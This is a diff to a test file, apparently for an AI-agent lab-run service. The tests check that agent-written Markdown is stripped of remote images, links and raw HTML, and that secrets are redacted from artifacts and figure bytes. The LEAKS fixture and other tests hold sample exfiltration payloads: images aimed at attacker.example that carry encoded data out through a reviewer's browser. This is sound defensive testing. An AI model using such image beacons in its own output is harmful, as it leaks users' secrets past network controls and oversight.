@@ -5,6 +5,7 @@ nothing, and that a server that does not answer never stops a session."""
 from __future__ import annotations
 
 import base64
+import re
 import threading
 import time
 from pathlib import Path
@@ -129,7 +130,8 @@ def test_a_retried_run_shows_each_artifact_once_with_the_report_and_the_figures(
     by_kind = {a.key.rsplit("-", 1)[1]: a.data for a in made}
     assert by_kind["state"] == (ws / "STATE.md").read_text() and "Phase 6 — documentation: DONE" in by_kind["state"]
     report = (ws / "REPORT.md").read_text()
-    assert by_kind["report"] == report and "<!-- labrun:results -->" in report
+    assert "<!-- labrun:results -->" in report  # the engine's mark, which the browser need not see
+    assert by_kind["report"] == re.sub("<!-- /?labrun:results -->", "", report)
     svg = base64.b64encode((ws / "results/rmse_vs_k.svg").read_bytes()).decode()
     assert f"![results/rmse_vs_k.svg](data:image/svg+xml;base64,{svg})" in by_kind["figures"]
 
@@ -137,8 +139,9 @@ def test_a_retried_run_shows_each_artifact_once_with_the_report_and_the_figures(
 def test_report_images_by_path_are_named_and_figures_past_the_limit_are_listed(session):
     root = session.ws.root
     (root / "REPORT.md").write_text("# R\n\n![the plot](results/plot.png)\n\n![remote](https://example.org/a.png)\n")
-    assert artifacts.report_markdown(root) == (
-        "# R\n\n*(figure `results/plot.png`: in the session's figures artifact)*\n\n![remote](https://example.org/a.png)\n")
+    assert artifacts.untrusted_markdown(artifacts.report_markdown(root)) == (
+        "# R\n\n*(figure `results/plot.png`: in the session's figures artifact)*\n\n"
+        "*(image `https://example.org/a.png`: not shown)*\n")
     (root / "results/big.png").write_bytes(b"\x89PNG" + b"0" * artifacts.FIGURE_BYTES)
     (root / "results/small.png").write_bytes(b"\x89PNG")
     (root / "results/link.png").symlink_to("/etc/hostname")
@@ -147,3 +150,83 @@ def test_report_images_by_path_are_named_and_figures_past_the_limit_are_listed(s
     assert "![results/small.png](data:image/png;base64,iVBORw==)" in shown
     assert "- `results/link.png`: not shown: results/link.png is a link" in shown
     assert "- `results/gone.png`: no longer in the workspace" in shown
+
+
+LEAKS = """# Results
+
+![plot](https://attacker.example/p.png?d=c2VjcmV0)
+<img src="https://attacker.example/i.png"> and <picture><source srcset="//attacker.example/s"></picture>
+![by reference][r] and ![nested [brackets]](https://attacker.example/n.png)
+[r]: https://attacker.example/r.png
+[a link](https://attacker.example/l) <https://attacker.example/auto>
+`![in code](https://attacker.example/c.png)`
+![agent's own data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)
+a < b and x<5 stay; <!-- a comment --> goes
+"""
+
+
+def rendered(markdown: str) -> str:
+    """`markdown` as a browser gets it (CommonMark, by markdown-it-py: rich's own)."""
+    from markdown_it import MarkdownIt
+
+    return MarkdownIt("commonmark").render(markdown)
+
+
+def test_the_agents_markdown_makes_the_browser_fetch_nothing_it_chose():
+    """REPORT.md, or any Markdown the reviewer reads, may hold an image whose URL carries a
+    secret out (the reviewer's browser fetches it, past every network rule of the session):
+    every image becomes text naming it, raw HTML is shown as text, a link's target as text."""
+    assert "<img" in rendered(LEAKS) and "<a href" in rendered(LEAKS)  # what the renderer would do unguarded
+    safe = artifacts.untrusted_markdown(LEAKS)
+    html = rendered(safe)
+    assert "<img" not in html and "<a " not in html and "<picture" not in html and "<source" not in html, html
+    assert "*(image `https://attacker.example/p.png?d=c2VjcmV0`: not shown)*" in safe
+    assert "a link (`https://attacker.example/l`)" in safe
+    assert "a < b and x<5 stay;  goes" in safe
+
+
+def test_every_artifact_sent_is_redacted_and_safe_whichever_view_made_it(monkeypatch):
+    """`shown`, which `publish` and every update send through: a view that forgot to redact,
+    or quoted the agent's Markdown, still sends nothing secret and no image; the figures
+    view keeps the engine's own `data:` images."""
+    from prefect.artifacts import MarkdownArtifact, TableArtifact
+
+    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
+    data, description = artifacts.shown(MarkdownArtifact(
+        key="k", markdown="tok-123456789-secret ![x](https://attacker.example/?d=1)",
+        description="about tok-123456789-secret <img src=//attacker.example>"), "report")
+    assert "tok-123456789-secret" not in data + description and "<img" not in rendered(data + description)
+    table, _ = artifacts.shown(TableArtifact(key="k", table={"command": ["run --token tok-123456789-secret"]}), "attempts")
+    assert "tok-123456789-secret" not in table and "[REDACTED]" in table
+    figure = "![a.svg](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)"
+    data, _ = artifacts.shown(MarkdownArtifact(key="k", markdown=f"### a.svg\n\n{figure}\n"), "figures")
+    assert figure in data
+    data, _ = artifacts.shown(MarkdownArtifact(key="k", markdown=f"### a.svg\n\n{figure}\n"), "report")
+    assert "<img" not in rendered(data)
+
+
+def png_with_text(text: bytes) -> bytes:
+    """A 1×1 PNG with a tEXt chunk holding `text`."""
+    import struct
+    import zlib
+
+    def chunk(kind: bytes, body: bytes) -> bytes:
+        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
+    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
+            + chunk(b"tEXt", b"Comment\0" + text) + chunk(b"IDAT", zlib.compress(b"\0\0"))
+            + chunk(b"IEND", b""))
+
+
+def test_a_secret_in_a_figures_bytes_never_reaches_the_figures_artifact(session, monkeypatch):
+    """An SVG's <text> or a PNG's text chunk may carry a key: the figure's bytes are
+    redacted before they are encoded (base64 hides them from any later redaction), and the
+    figure is still shown, with a note."""
+    monkeypatch.setenv("LAB_SERVICE_TOKEN", "tok-123456789-secret")
+    token = "sk-ant-api03-" + "x" * 40  # known by its shape alone
+    root = session.ws.root
+    (root / "results/a.svg").write_text(f'<svg xmlns="http://www.w3.org/2000/svg"><text>{token}</text></svg>')
+    (root / "results/b.png").write_bytes(png_with_text(b"tok-123456789-secret \xff"))
+    shown = artifacts.figures_markdown(root, ["results/a.svg", "results/b.png"])
+    decoded = b"".join(base64.b64decode(uri) for uri in re.findall(r";base64,([^)]*)\)", shown))
+    assert decoded.count(b"[REDACTED]") == 2 and b"sk-ant-" not in decoded and b"tok-1234" not in decoded
+    assert b"\xff" in decoded and shown.count("Secrets redacted from its bytes") == 2
